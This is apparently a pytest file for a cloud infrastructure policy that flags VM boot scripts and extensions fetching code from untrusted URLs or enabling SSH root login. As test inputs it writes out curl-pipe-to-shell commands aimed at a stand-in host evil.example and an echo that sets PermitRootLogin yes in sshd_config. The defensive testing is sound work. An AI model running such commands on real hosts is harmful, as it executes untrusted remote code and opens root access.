def test_one_untrusted_url_among_trusted_fails():
    uris = ["https://artifacts.example.com/boot/a.sh", EVIL]
    found = violations(
        RULE, VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("settings", "fileUris"), uris)), config=TRUSTED
    )
    assert len(found) == 1 and "evil.example" in found[0] and "artifacts" not in found[0]


def test_misspelt_knob_fails_closed():
    found = violations(RULE, GCE, {"metadata": GCP_META}, config={"trustedUrlPrefix": ["https://x/"]})
    assert found and "trustedUrlPrefixes" in found[0]


# ---------------------------------------------------------------------------------------------
# Unknowns and malformed shapes


@pytest.mark.parametrize(
    "type_,props",
    [
        (GCE, {"metadata": {**GCP_META, "startup-script-url": UNKNOWN_STRING_VALUE}}),
        (VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("settings", "fileUris"), [UNKNOWN_STRING_VALUE]))),
        (RUN_COMMAND, {"source": {"scriptUri": UNKNOWN_STRING_VALUE}}),
        (PROJECT_ITEM, {"key": "startup-script-url", "value": UNKNOWN_STRING_VALUE}),
    ],
)
def test_unknown_url_raises_in_preview_and_fails_on_up(type_, props):
    with pytest.raises(UnknownValueError):
        violations(RULE, type_, props, dry_run=True)
    found = violations(RULE, type_, props, dry_run=False)
    assert found and "unknown" in found[0]


def test_unknown_unrelated_metadata_does_not_stop_the_rule():
    assert violations(RULE, GCE, {"metadata": {**GCP_META, "ssh-keys": UNKNOWN_STRING_VALUE}}) == []


def test_malformed_file_uris_fail_closed():
    found = violations(RULE, VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("settings", "fileUris"), [42])))
    assert found and "failing closed" in found[0]


def test_downloads_are_cached_by_content():
    text = f"curl -s {EVIL} | sh"
    assert document_downloads(text) is document_downloads(text)


def test_new_redirect_and_pipe_tokens_keep_commands_whole():
    # `>&2`, `2>&1` and `|&` are a redirect and a pipe, not a background `&` that ends the
    # command: the login rule still reads the echo, and the pipe still feeds the shell.
    from policies.boot import script_settings, shell_commands

    (cmd,) = shell_commands("echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config 2>&1")
    assert cmd.words[-2:] == [">&", "1"]
    assert [s.value for s in script_settings("echo 'PermitRootLogin yes' >&2")] == ["yes"]
    found = violations(
        "access-boot-config-no-root-or-password-login",
        GCE,
        {"metadata": GCP_META, "metadataStartupScript": "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config 2>&1"},
    )
    assert found
    assert [c.after_pipe for c in shell_commands("curl -s https://x/a |& sh")] == [False, True]


# ---------------------------------------------------------------------------------------------
# Through the Analyzer gRPC protocol


def _res(type_: str, name: str, props: dict) -> dict:
    return {
        "type": type_,
        "name": name,
        "urn": f"urn:pulumi:dev::appstack::{type_}::{name}",
        "parent": None,
        "properties": props,
    }


GRPC_RESOURCES = [
    _res(EC2, "curl-pipe-vm", {"ami": "ami-1", "userData": f"#!/bin/sh\ncurl -fsSL {EVIL} | sh\n"}),
    _res(EC2, "good-vm", {"ami": "ami-1", "userData": CLOUD_INIT}),
    _res(GCE, "url-vm", {"metadata": {**GCP_META, "startup-script-url": "https://artifacts.example.com/boot/a.sh"}}),
    _res(GCE, "unknown-url-vm", {"metadata": {**GCP_META, "startup-script-url": UNKNOWN}}),
    _res(VM_EXTENSION, "file-uris-ext", changed(CUSTOM_SCRIPT, set_at(("protectedSettings",), {"fileUris": [EVIL]}))),
]


@pytest.fixture(scope="module")
def grpc_results():
    preview = run_gate(GRPC_RESOURCES, project="appstack", stack="dev", dry_run=True)
    up = run_gate(
        [r for r in GRPC_RESOURCES if r["name"] != "unknown-url-vm"],
        project="appstack",
        stack="dev",
        dry_run=False,
        policy_config={RULE: {"trustedUrlPrefixes": ["https://artifacts.example.com/boot/"]}},
    )
    return preview, up


def _on(result, name: str) -> list:
    return [v for v in result.violations if v.name == name and v.policy == RULE]


def test_grpc_reports_downloads_as_mandatory(grpc_results):
    preview, _up = grpc_results
    assert dict(preview.policies)[RULE] == "mandatory"
    for name in ("curl-pipe-vm", "url-vm", "file-uris-ext"):
        (v,) = _on(preview, name)
        assert v.level == "mandatory", name
    assert not _on(preview, "good-vm")
    (unknown,) = _on(preview, "unknown-url-vm")
    assert unknown.level == "advisory" and "during preview" in unknown.message


def test_grpc_trusted_prefix_from_policy_config(grpc_results):
    _, up = grpc_results
    assert not _on(up, "url-vm")
    assert _on(up, "curl-pipe-vm") and _on(up, "file-uris-ext")


def test_messages_redact_sas_tokens_and_credentials():
    sas = "https://acct.blob.core.windows.net/c/a.sh?sv=2022-11-02&sig=SECRETSIG"
    (m,) = violations(RULE, VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("protectedSettings",), {"fileUris": [sas]})))
    assert "SECRETSIG" not in m and "acct.blob.core.windows.net/c/a.sh" in m and "protectedSettings.fileUris[0]" in m
    (m,) = violations(RULE, EC2, {"userData": "curl -s https://deploy:hunter2@evil.example/a | sh"})
    assert "hunter2" not in m and "evil.example/a" in m


def test_extension_settings_that_are_not_code_urls_pass():
    settings = {"proxy": {"proxyUrl": "http://proxy.internal:3128"}, "healthUrl": "/health", "fileUris": []}
    assert violations(RULE, VM_EXTENSION, changed(AMA_EXTENSION, set_at(("settings",), settings))) == []
    assert violations(RULE, GCE, {"metadata": {**GCP_META, "startup-script-url": ""}}) == []


def test_nested_url_settings_are_read():
    settings = {"configurations": [{"configurationUrl": EVIL}]}
    (m,) = violations(RULE, VM_EXTENSION, changed(AMA_EXTENSION, set_at(("settings",), settings)))
    assert "settings.configurations[0].configurationUrl" in m
